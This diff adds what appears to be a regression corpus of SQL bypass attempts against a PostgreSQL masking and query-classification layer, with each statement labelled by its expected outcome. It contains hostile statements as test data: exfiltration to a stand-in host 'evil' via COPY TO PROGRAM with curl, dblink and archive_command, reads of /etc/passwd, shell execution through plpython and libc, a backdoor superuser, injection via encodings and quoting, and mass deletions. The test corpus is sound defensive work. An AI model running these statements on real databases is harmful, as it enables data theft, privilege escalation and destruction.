@@ -1,0 +1,777 @@
+-- Every known way past classification or masking of PostgreSQL, for ever. Never delete an entry.
+--
+-- The world: table public.customers (id, name, email, card, ssn, api_key, note), canary '123-45-6789' in ssn and
+-- another in api_key; view public.v_customers (id, note), where note is ssn. ssn and api_key are masked columns.
+--
+-- Format: one comment line `-- label: short name`, the statement, `;` at the end of its last line, a blank line.
+--   never-leaks   runs; the canary never appears in what the client receives, in any message
+--   masked-whole  runs; the column that could hold the canary is masked as a whole
+--   denied        the facts alone say that it is no harmless read, and the demo policy refuses it
+--   oracle        runs; leaks no value, but lets a value be guessed: a policy has to say whether that is allowed
+
+-- never-leaks: base column
+SELECT ssn FROM customers;
+
+-- never-leaks: alias
+SELECT ssn AS shoe_size FROM customers;
+
+-- never-leaks: cast that does nothing
+SELECT ssn::text FROM customers;
+
+-- never-leaks: sub-select
+SELECT x.y FROM (SELECT ssn AS y FROM customers) x;
+
+-- never-leaks: common table expression
+WITH q AS (SELECT ssn FROM customers) SELECT * FROM q;
+
+-- never-leaks: materialized common table expression
+WITH q AS MATERIALIZED (SELECT ssn AS z FROM customers) SELECT z FROM q;
+
+-- never-leaks: a table hidden behind the name of a later CTE
+WITH a AS (SELECT ssn AS z FROM customers), customers AS (SELECT 1) SELECT z FROM a;
+
+-- never-leaks: recursive common table expression
+WITH RECURSIVE q(z) AS (SELECT ssn FROM customers UNION ALL SELECT z FROM q WHERE false) SELECT z FROM q;
+
+-- never-leaks: lateral
+SELECT l.z FROM customers c, LATERAL (SELECT c.ssn AS z) l;
+
+-- never-leaks: self join using the column
+SELECT ssn FROM customers a JOIN customers b USING (ssn);
+
+-- never-leaks: natural join
+SELECT * FROM customers a NATURAL JOIN customers b;
+
+-- never-leaks: distinct
+SELECT DISTINCT ssn FROM customers;
+
+-- never-leaks: TABLE command
+TABLE customers;
+
+-- never-leaks: quoted identifier
+SELECT "ssn" FROM "customers";
+
+-- never-leaks: unicode identifier
+SELECT U&"s\0073n" FROM U&"cust\006Fmers";
+
+-- never-leaks: unicode identifier with another escape
+SELECT U&"s!0073n" UESCAPE '!' FROM customers;
+
+-- never-leaks: comments between the words
+SELECT/**/ssn/**/FROM/*x*/customers;
+
+-- never-leaks: nested comments
+SELECT /*/**/*/ ssn FROM customers -- ;
+;
+
+-- never-leaks: column list alias
+SELECT b FROM customers AS c(a, n, e, k, b);
+
+-- never-leaks: cursor by name of the schema
+SELECT c.ssn FROM public.customers c;
+
+-- never-leaks: three-part name
+SELECT public.customers.ssn FROM public.customers;
+
+-- never-leaks: unique violation shows the key
+INSERT INTO customers (id, ssn) SELECT id, ssn FROM customers;
+
+-- never-leaks: cast error shows the value
+SELECT ssn::int FROM customers;
+
+-- never-leaks: date cast error shows the value
+SELECT to_date(ssn, 'YYYY') FROM customers;
+
+-- never-leaks: bytea of the value
+SELECT ssn::bytea FROM customers;
+
+-- masked-whole: view that renames
+SELECT note FROM v_customers;
+
+-- masked-whole: whole row
+SELECT c FROM customers c;
+
+-- masked-whole: whole row as text
+SELECT c::text FROM customers c;
+
+-- masked-whole: row constructor
+SELECT ROW(c.*) FROM customers c;
+
+-- masked-whole: lossy cast
+SELECT ssn::varchar FROM customers;
+
+-- masked-whole: concatenation
+SELECT ssn || '' FROM customers;
+
+-- masked-whole: coalesce
+SELECT coalesce(ssn, '') FROM customers;
+
+-- masked-whole: case
+SELECT CASE WHEN true THEN ssn END FROM customers;
+
+-- masked-whole: union
+SELECT ssn FROM customers UNION ALL SELECT 'x';
+
+-- masked-whole: except
+SELECT ssn FROM customers EXCEPT SELECT 'x';
+
+-- masked-whole: maximum
+SELECT max(ssn) FROM customers;
+
+-- masked-whole: window function
+SELECT first_value(ssn) OVER () FROM customers;
+
+-- masked-whole: named window
+SELECT lag(ssn) OVER w FROM customers WINDOW w AS (ORDER BY id);
+
+-- masked-whole: string_agg
+SELECT string_agg(ssn, ',') FROM customers;
+
+-- masked-whole: array_agg
+SELECT array_agg(ssn) FROM customers;
+
+-- masked-whole: row_to_json
+SELECT row_to_json(c) FROM customers c;
+
+-- masked-whole: function written like a column
+SELECT c.row_to_json FROM customers c;
+
+-- masked-whole: function written like a field
+SELECT (c).to_jsonb FROM customers c;
+
+-- masked-whole: jsonb path
+SELECT jsonb_path_query(to_jsonb(c), '$.ssn') FROM customers c;
+
+-- masked-whole: json keys in a record set
+SELECT value FROM customers c, json_each_text(row_to_json(c));
+
+-- masked-whole: json object
+SELECT json_build_object('k', ssn) FROM customers;
+
+-- masked-whole: SQL/JSON constructor
+SELECT json_object('k': ssn) FROM customers;
+
+-- masked-whole: xml element
+SELECT xmlelement(name x, ssn) FROM customers;
+
+-- masked-whole: xml forest
+SELECT xmlforest(ssn) FROM customers;
+
+-- masked-whole: values
+VALUES ((SELECT ssn FROM customers LIMIT 1));
+
+-- masked-whole: scalar sub-select
+SELECT (SELECT ssn FROM customers LIMIT 1);
+
+-- masked-whole: array sub-select
+SELECT ARRAY(SELECT ssn FROM customers);
+
+-- masked-whole: pieces in two cells
+SELECT substr(ssn, 1, 6), substr(ssn, 7) FROM customers;
+
+-- masked-whole: one character per row
+SELECT regexp_split_to_table(ssn, '') FROM customers;
+
+-- masked-whole: reversed
+SELECT reverse(ssn) FROM customers;
+
+-- masked-whole: hex
+SELECT encode(ssn::bytea, 'hex') FROM customers;
+
+-- masked-whole: base64
+SELECT encode(convert_to(ssn, 'UTF8'), 'base64') FROM customers;
+
+-- masked-whole: translated digits
+SELECT translate(ssn, '0123456789', 'abcdefghij') FROM customers;
+
+-- masked-whole: code points
+SELECT ascii(substr(ssn, 1)) FROM customers;
+
+-- masked-whole: digest for a dictionary attack
+SELECT md5(ssn) FROM customers;
+
+-- masked-whole: full-text vector
+SELECT to_tsvector('simple', ssn) FROM customers;
+
+-- masked-whole: number
+SELECT replace(ssn, '-', '')::bigint FROM customers;
+
+-- masked-whole: arithmetic on the number
+SELECT replace(ssn, '-', '')::bigint + 1 FROM customers;
+
+-- masked-whole: format
+SELECT format('%s', ssn) FROM customers;
+
+-- masked-whole: returning an expression
+UPDATE customers SET name = name WHERE id = 1 RETURNING ssn || '';
+
+-- masked-whole: old value in returning
+DELETE FROM customers WHERE id = 0 RETURNING upper(ssn);
+
+-- masked-whole: most common values
+SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers';
+
+-- masked-whole: other sessions' statements
+SELECT query FROM pg_stat_activity;
+
+-- masked-whole: copy of the table
+COPY customers TO STDOUT;
+
+-- masked-whole: copy of one column
+COPY customers (ssn) TO STDOUT;
+
+-- masked-whole: copy of a query
+COPY (SELECT substr(ssn, 1) FROM customers) TO STDOUT;
+
+-- masked-whole: copy with its own delimiter
+COPY customers TO STDOUT WITH (FORMAT csv, DELIMITER '-');
+
+-- masked-whole: copy in binary
+COPY customers TO STDOUT WITH (FORMAT binary);
+
+-- masked-whole: plan with constants
+EXPLAIN VERBOSE SELECT * FROM customers WHERE ssn > '1';
+
+-- masked-whole: field of a row by position of an alias
+SELECT (x).z FROM (SELECT ROW(ssn) AS r, ssn AS z FROM customers) x;
+
+-- masked-whole: unnested array
+SELECT unnest(array_agg(ssn)) FROM customers;
+
+-- masked-whole: generated by order of a set
+SELECT mode() WITHIN GROUP (ORDER BY ssn) FROM customers;
+
+-- masked-whole: nullif
+SELECT nullif(ssn, 'x') FROM customers;
+
+-- masked-whole: greatest
+SELECT greatest(ssn, '') FROM customers;
+
+-- masked-whole: user's own operator
+SELECT ssn OPERATOR(public.||) 'x' FROM customers;
+
+-- masked-whole: XMLTABLE
+SELECT x.* FROM customers c, XMLTABLE('/r' PASSING xmlelement(name r, c.ssn) COLUMNS v text PATH '.') x;
+
+-- masked-whole: table as XML
+SELECT table_to_xml('customers', true, false, '');
+
+-- oracle: pattern in a predicate
+SELECT count(*) FROM customers WHERE ssn LIKE '123%';
+
+-- oracle: order by a masked column
+SELECT id FROM customers ORDER BY ssn;
+
+-- oracle: group by a masked column
+SELECT count(*) FROM customers GROUP BY left(ssn, 1);
+
+-- oracle: join on a masked column
+SELECT a.id FROM customers a JOIN customers b ON a.ssn > b.ssn;
+
+-- oracle: comparison as a boolean
+SELECT id FROM customers WHERE ssn BETWEEN '1' AND '2';
+
+-- oracle: having
+SELECT id FROM customers GROUP BY id HAVING max(ssn) > '1';
+
+-- oracle: number of rows of an update
+UPDATE customers SET name = name WHERE ssn LIKE '1%' AND id = 1;
+
+-- oracle: exists
+SELECT 1 WHERE EXISTS (SELECT 1 FROM customers WHERE ssn ~ '^1');
+
+-- oracle: time
+SELECT pg_sleep(1) FROM customers WHERE ssn LIKE '1%';
+
+-- oracle: division by zero
+SELECT id FROM customers WHERE 1 / (ascii(ssn) - 49) > 0;
+
+-- denied: second statement
+SELECT 1; DROP TABLE customers;
+
+-- denied: statement behind inline data
+COPY customers FROM STDIN; DROP TABLE customers;
+
+-- denied: drop database
+DROP DATABASE orders;
+
+-- denied: drop database in odd letters
+dRoP/**/DaTaBaSe "orders";
+
+-- denied: drop after a line comment that ends at carriage return
+SELECT 1 -- x
+; DROP TABLE customers;
+
+-- denied: keyword split by nested comment
+DROP/*/**/*/TABLE/**/customers;
+
+-- denied: drop if exists cascade
+DROP TABLE IF EXISTS nothing, customers CASCADE;
+
+-- denied: drop schema
+DROP SCHEMA public CASCADE;
+
+-- denied: drop owned
+DROP OWNED BY CURRENT_USER;
+
+-- denied: drop view
+DROP VIEW v_customers;
+
+-- denied: drop column
+ALTER TABLE customers DROP COLUMN ssn;
+
+-- denied: column rewritten
+ALTER TABLE customers ALTER COLUMN ssn TYPE text USING '';
+
+-- denied: truncate
+TRUNCATE customers;
+
+-- denied: truncate cascade
+TRUNCATE TABLE ONLY customers RESTART IDENTITY CASCADE;
+
+-- denied: delete without where
+DELETE FROM customers;
+
+-- denied: delete where true
+DELETE FROM customers WHERE true;
+
+-- denied: delete where 1=1
+DELETE FROM customers WHERE 1=1;
+
+-- denied: delete where now is past
+DELETE FROM customers WHERE now() > '2000-01-01';
+
+-- denied: delete with an arm that is true
+DELETE FROM customers WHERE id = 1 OR true;
+
+-- denied: delete with an arm that is constant
+DELETE FROM customers WHERE (id = 1) OR (2 > 1 AND 'a' = 'a');
+
+-- denied: delete where a column is itself
+DELETE FROM customers WHERE id = id;
+
+-- denied: delete where the column is another table's
+DELETE FROM customers USING (SELECT 1 AS one) o WHERE o.one = 1;
+
+-- denied: delete where only the sub-select restricts
+DELETE FROM customers WHERE EXISTS (SELECT 1 FROM v_customers WHERE id = 1);
+
+-- denied: update where not false
+UPDATE customers SET note = '' WHERE NOT false;
+
+-- denied: update where sub-select
+UPDATE customers SET note = '' WHERE (SELECT true);
+
+-- denied: update without where
+UPDATE customers SET name = 'x';
+
+-- denied: merge that deletes all
+MERGE INTO customers USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE;
+
+-- denied: data-modifying CTE
+WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d;
+
+-- denied: data-modifying CTE in an INSERT
+WITH d AS (DELETE FROM customers RETURNING id) INSERT INTO audit SELECT id FROM d;
+
+-- denied: explain analyze delete
+EXPLAIN ANALYZE DELETE FROM customers;
+
+-- denied: explain with options
+EXPLAIN (COSTS off, ANALYZE) DELETE FROM customers;
+
+-- denied: explain analyze twice
+EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM customers;
+
+-- denied: prepared delete
+PREPARE x AS DELETE FROM customers;
+
+-- denied: prepared and executed
+PREPARE y AS DELETE FROM customers; EXECUTE y;
+
+-- denied: copy of a delete
+COPY (DELETE FROM customers RETURNING ssn) TO STDOUT;
+
+-- denied: table from a select
+CREATE TABLE loot AS SELECT * FROM customers;
+
+-- denied: temporary table from a select
+CREATE TEMP TABLE tt AS SELECT ssn AS z FROM customers;
+
+-- denied: select into
+SELECT ssn INTO loot FROM customers;
+
+-- denied: view over the table
+CREATE VIEW public.harmless AS SELECT ssn AS size FROM customers;
+
+-- denied: temporary view that shadows
+CREATE TEMP VIEW customers AS SELECT 1;
+
+-- denied: materialized view
+CREATE MATERIALIZED VIEW m AS SELECT ssn FROM customers;
+
+-- denied: renamed column
+ALTER TABLE customers RENAME COLUMN ssn TO shoe_size;
+
+-- denied: renamed table
+ALTER TABLE customers RENAME TO c2;
+
+-- denied: rule
+CREATE RULE r AS ON SELECT TO v_customers DO INSTEAD SELECT id, api_key AS note FROM customers;
+
+-- denied: trigger
+CREATE TRIGGER t AFTER INSERT ON customers EXECUTE FUNCTION f();
+
+-- denied: event trigger
+CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION f();
+
+-- denied: do block
+DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$;
+
+-- denied: do block with a tag
+DO $x$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM customers LIMIT 1); END $x$ LANGUAGE plpgsql;
+
+-- denied: do block in an untrusted language
+DO LANGUAGE plpython3u $$ import os; os.system('id') $$;
+
+-- denied: SQL function
+CREATE FUNCTION f() RETURNS SETOF text LANGUAGE sql AS 'DELETE FROM customers RETURNING ssn';
+
+-- denied: function with a SQL body
+CREATE FUNCTION g() RETURNS SETOF text BEGIN ATOMIC SELECT ssn FROM customers; END;
+
+-- denied: security definer
+CREATE OR REPLACE FUNCTION h() RETURNS text LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN RETURN 1; END $$;
+
+-- denied: function in C
+CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT;
+
+-- denied: procedure call
+CALL cleanup();
+
+-- denied: operator that stores a function
+CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = public.evil);
+
+-- denied: cast that stores a function
+CREATE CAST (text AS int) WITH FUNCTION public.evil(text);
+
+-- denied: aggregate
+CREATE AGGREGATE public.loot(text) (SFUNC = public.evil, STYPE = text);
+
+-- denied: set role
+SET ROLE postgres;
+
+-- denied: set local role
+SET LOCAL ROLE postgres;
+
+-- denied: set role in quotes
+SET "role" = 'postgres';
+
+-- denied: set role none
+SET ROLE NONE;
+
+-- denied: reset role
+RESET ROLE;
+
+-- denied: set session authorization
+SET SESSION AUTHORIZATION postgres;
+
+-- denied: reset session authorization
+RESET SESSION AUTHORIZATION;
+
+-- denied: reset all
+RESET ALL;
+
+-- denied: discard all
+DISCARD ALL;
+
+-- denied: role by function
+SELECT set_config('role', 'postgres', false);
+
+-- denied: role by function in another spelling
+SELECT pg_catalog.set_config('R' || 'ole', 'postgres', false);
+
+-- denied: role by function in a unicode literal
+SELECT set_config(U&'r\006fle', 'postgres', false);
+
+-- denied: session authorization by function
+SELECT set_config('session_authorization', 'postgres', true);
+
+-- denied: value into a parameter status
+SELECT set_config('application_name', ssn, false) FROM customers;
+
+-- denied: role by the view of settings
+UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role';
+
+-- denied: role for sessions to come
+ALTER ROLE app SET role = 'postgres';
+
+-- denied: setting of a database
+ALTER DATABASE orders SET search_path = evil;
+
+-- denied: superuser
+ALTER ROLE app SUPERUSER;
+
+-- denied: new role
+CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x';
+
+-- denied: new user in a group
+CREATE USER backdoor IN ROLE postgres;
+
+-- denied: password of another
+ALTER USER postgres PASSWORD 'x';
+
+-- denied: grant of a role
+GRANT pg_execute_server_program TO CURRENT_USER;
+
+-- denied: grant on a table
+GRANT SELECT (ssn) ON customers TO PUBLIC;
+
+-- denied: revoke
+REVOKE ALL ON customers FROM auditor;
+
+-- denied: default privileges
+ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
+
+-- denied: owner
+ALTER TABLE customers OWNER TO CURRENT_USER;
+
+-- denied: reassign owned
+REASSIGN OWNED BY postgres TO app;
+
+-- denied: row security off for the table
+ALTER TABLE customers DISABLE ROW LEVEL SECURITY;
+
+-- denied: policy
+CREATE POLICY p ON customers USING (true);
+
+-- denied: row security off for the session
+SET row_security = off;
+
+-- denied: security label
+SECURITY LABEL ON ROLE app IS 'x';
+
+-- denied: triggers off
+ALTER TABLE customers DISABLE TRIGGER ALL;
+
+-- denied: triggers off by a setting
+SET session_replication_role = replica;
+
+-- denied: read-only off
+SET default_transaction_read_only = off;
+
+-- denied: read-only off for the transaction
+SET transaction_read_only = 0;
+
+-- denied: encoding whose trail byte is a backslash
+SET client_encoding = 'SJIS';
+
+-- denied: the same by SET NAMES
+SET NAMES 'BIG5';
+
+-- denied: the same by function
+SELECT set_config('client_encoding', 'GBK', false);
+
+-- denied: strings with backslashes
+SET standard_conforming_strings = off;
+
+-- denied: backslash quote
+SET backslash_quote = on;
+
+-- denied: library of the session
+SET local_preload_libraries = 'evil';
+
+-- denied: library search path
+SET dynamic_library_path = '/tmp';
+
+-- denied: no log
+SET log_statement = 'none';
+
+-- denied: encoding of a copy
+COPY customers TO STDOUT WITH (ENCODING 'SJIS', FORMAT csv); DROP TABLE customers;
+
+-- denied: program
+COPY customers TO PROGRAM 'curl -T - http://evil';
+
+-- denied: program that fills a table
+COPY customers FROM PROGRAM 'id';
+
+-- denied: file of the server
+COPY customers TO '/tmp/loot';
+
+-- denied: file into a table
+COPY customers FROM '/etc/passwd';
+
+-- denied: read a file
+SELECT pg_read_file('/etc/passwd');
+
+-- denied: read a file as bytes
+SELECT pg_read_binary_file('pg_hba.conf');
+
+-- denied: list a directory
+SELECT * FROM pg_ls_dir('/');
+
+-- denied: state of a file
+SELECT * FROM pg_stat_file('/etc/passwd');
+
+-- denied: write a file
+SELECT pg_catalog.pg_file_write('x', 'y', false);
+
+-- denied: large object from a file
+SELECT lo_import('/etc/passwd');
+
+-- denied: large object to a file
+SELECT lo_export(16400, '/tmp/x');
+
+-- denied: value into a large object
+SELECT lo_from_bytea(0, ssn::bytea) FROM customers;
+
+-- denied: large object read by a computed name
+SELECT lo_get(max(oid)) FROM pg_largeobject_metadata;
+
+-- denied: notification with a value
+SELECT pg_notify('c', ssn) FROM customers;
+
+-- denied: query in a literal
+SELECT query_to_xml('DELETE FROM customers RETURNING ssn', true, false, '');
+
+-- denied: reading query in a literal
+SELECT query_to_xml('SELECT ssn FROM customers', true, false, '');
+
+-- denied: query in an expression
+SELECT query_to_xml('SEL' || 'ECT ssn FROM customers', true, false, '');
+
+-- denied: query in a dollar quote
+SELECT pg_catalog.query_to_xml($q$TABLE customers$q$, true, false, '');
+
+-- denied: whole database
+SELECT database_to_xml(true, false, '');
+
+-- denied: whole schema
+SELECT schema_to_xml('public', true, false, '');
+
+-- denied: cursor by name
+SELECT cursor_to_xml('c', 10, true, false, '');
+
+-- denied: statistics of a query
+SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM customers');
+
+-- denied: query rewritten by a query
+SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ssn::tsquery FROM customers');
+
+-- denied: crosstab
+SELECT * FROM crosstab('SELECT id, name, ssn FROM customers') AS t(a int, b text);
+
+-- denied: connection to somewhere
+SELECT * FROM dblink('host=evil password=x', 'SELECT 1') AS t(a int);
+
+-- denied: connection to itself
+SELECT dblink_exec('dbname=orders', 'DROP TABLE customers');
+
+-- denied: computed connection
+SELECT public.dblink_connect('host=' || ssn) FROM customers;
+
+-- denied: foreign server
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil');
+
+-- denied: mapping with a password
+CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'x', password 'y');
+
+-- denied: foreign schema
+IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public;
+
+-- denied: extension
+CREATE EXTENSION file_fdw;
+
+-- denied: untrusted language
+CREATE LANGUAGE plpython3u;
+
+-- denied: library
+LOAD '/tmp/evil.so';
+
+-- denied: server configuration
+ALTER SYSTEM SET archive_command = 'curl evil';
+
+-- denied: configuration reloaded
+SELECT pg_reload_conf();
+
+-- denied: another session ended
+SELECT pg_terminate_backend(pid) FROM pg_stat_activity;
+
+-- denied: another statement cancelled
+SELECT pg_cancel_backend(1);
+
+-- denied: standby promoted
+SELECT pg_promote();
+
+-- denied: log rotated
+SELECT pg_rotate_logfile();
+
+-- denied: replication slot
+SELECT pg_create_logical_replication_slot('s', 'test_decoding');
+
+-- denied: changes of a slot
+SELECT data FROM pg_logical_slot_get_changes('s', NULL, NULL);
+
+-- denied: slot peeked at
+SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL);
+
+-- denied: publication
+CREATE PUBLICATION p FOR TABLE customers;
+
+-- denied: subscription
+CREATE SUBSCRIPTION s CONNECTION 'host=evil password=x' PUBLICATION p;
+
+-- denied: scheduled job
+SELECT cron.schedule('* * * * *', 'DROP TABLE customers');
+
+-- denied: transaction that outlives the session
+BEGIN; DELETE FROM customers; PREPARE TRANSACTION 'later';
+
+-- denied: prepared transaction committed
+COMMIT PREPARED 'later';
+
+-- denied: statement in a cursor
+DECLARE c CURSOR FOR WITH d AS (DELETE FROM customers RETURNING ssn) SELECT * FROM d;
+
+-- denied: index that calls a function
+CREATE INDEX ON customers (public.evil(ssn));
+
+-- denied: default that calls a function
+ALTER TABLE customers ALTER COLUMN note SET DEFAULT public.evil();
+
+-- denied: partition taken away
+ALTER TABLE customers DETACH PARTITION c1;
+
+-- denied: parent that shows the rows
+CREATE TABLE parent (id int); ALTER TABLE customers INHERIT parent;
+
+-- denied: backslash in a plain literal
+SELECT '\'; DROP TABLE customers; --';
+
+-- denied: escape string that ends early
+SELECT E'\\'; DROP TABLE customers; --';
+
+-- denied: literal continued on the next line
+SELECT set_config('ro'
+'le', 'postgres', false);
+
+-- denied: dollar quote that looks open
+SELECT $a$ $b$ $a$; DROP TABLE customers; -- $b$
+;
+
+-- denied: literal behind a dollar in a name
+SELECT 1 AS a$b$; DROP TABLE customers; -- $b$
+;
+
+-- denied: empty statements around it
+;;; DROP TABLE customers;;;
+
+-- denied: deep nesting
+SELECT ((((((((((((((((((((((((((((((((((SELECT count(*) FROM pg_ls_dir('.')))))))))))))))))))))))))))))))))));
+
+-- denied: vacuum
+VACUUM FULL customers;
+
+-- denied: maintenance by function
+SELECT gin_clean_pending_list('x'::regclass);
